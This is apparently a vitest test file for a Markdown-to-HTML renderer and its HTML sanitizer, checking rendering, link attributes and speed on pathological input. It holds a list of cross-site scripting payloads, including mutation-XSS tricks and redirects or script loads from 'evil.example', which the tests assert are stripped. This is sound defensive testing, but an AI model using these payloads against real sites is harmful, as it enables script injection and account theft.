import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { markdownReader } from './markdown.ts';
import { sanitized } from './sanitize.ts';

const { text, note } = markdownReader();
const rel = 'rel="noopener noreferrer nofollow"';

describe('a description', () => {
  it.each([
    ['Gets _one_ thing.', '<p>Gets <em>one</em> thing.</p>'],
    ['One line<br>and another', '<p>One line<br />and another</p>'],
    [
      'See https://a.example/b?c=1&d',
      `<p>See <a href="https://a.example/b?c=1&amp;d" ${rel}>https://a.example/b?c=1&amp;d</a></p>`,
    ],
    ['The file meeting.id', '<p>The file meeting.id</p>'],
    ['[mail](mailto:a@b.example)', `<p><a href="mailto:a@b.example" ${rel}>mail</a></p>`],
    ['```js\nlet a;\n```', '<pre tabindex="0"><code>let a;\n</code></pre>'],
  ])('%s', (markdown, html) => {
    expect(text(markdown)).toBe(html);
  });

  it('has headings below the title of its page, and none beside a row', () => {
    expect(text('# A\n\n#### B')).toBe('<h2>A</h2>\n<h2>B</h2>');
    expect(note('# A')).toBe('<p>A</p>');
  });

  it('links to an image, and does not load it', () => {
    expect(text('![a tree](https://a.example/tree.png)')).toBe(
      `<p><a href="https://a.example/tree.png" ${rel}>a tree</a></p>`,
    );
    expect(text('[![badge](https://a.example/b.svg)](https://a.example)')).toBe(
      `<p><a href="https://a.example" ${rel}><span>badge</span></a></p>`,
    );
  });

  it('keeps tables', () => {
    expect(text('| a | b |\n|---|---|\n| 1 | 2 |')).toContain('<td>2</td>');
  });

  it('of plain words is what Markdown makes of it, only sooner', () => {
    const slow = new MarkdownIt({ html: true, linkify: true });
    const words = fc.string({ unit: fc.constantFrom(...'aB1 ,.;()?%$-_*\n<&') });
    fc.assert(
      fc.property(words, (markdown) => {
        expect(note(markdown)).toBe(sanitized(slow.render(markdown), 'p').trim());
      }),
      { numRuns: 2000 },
    );
  });
});

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#106;ava\tscript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="vbscript:alert(1)">a</a>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](<javascript:alert(1)>)',
  '![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
  '<form action=https://evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>',
  '<base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=https://evil.example>',
  '<style>*{background:url(https://evil.example)}</style><p style="background:url(https://evil.example)">a</p>',
  '<p id=main class=top onclick=alert(1)>a</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template><slot name=a></slot>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '</div></main><script src=https://evil.example></script>',
];

describe('an attack in a description', () => {
  // What is left may only be these tags with these attributes, whose values hold no quote and lead to the web or to mail.
  const unsafe =
    /<(?!\/?(?:a|b|br|code|del|em|i|ins|kbd|q|s|samp|small|span|strong|sub|sup|u|var|p|pre|blockquote|ul|ol|li|dl|dt|dd|hr|h2|details|summary|table|caption|thead|tbody|tfoot|tr|th|td)(?: (?:href="(?:https?:\/\/|mailto:)[^"<>]*"|rel="[\w ]+"|tabindex="0"|start="\d*"|colspan="\d*"|rowspan="\d*"))*(?: \/)?>)/;

  it.each(attacks)('%s', (attack) => {
    for (const html of [text(attack), note(attack), text(`- ${attack}`), text(`**a** ${attack}`)]) {
      expect(html).not.toMatch(unsafe);
    }
  });

  it('closes nothing that it has not opened', () => {
    expect(text('</div></main><b>x')).toBe('<b>x</b>');
  });

  it.each(['<div>', '[', '*a ', '> ', '<b>', '<a ', '[a]('])(
    'of %s and nothing else ends in time',
    (part) => {
      const start = performance.now();
      text(part.repeat(20_000));
      expect(performance.now() - start).toBeLessThan(5000);
    },
  );
});
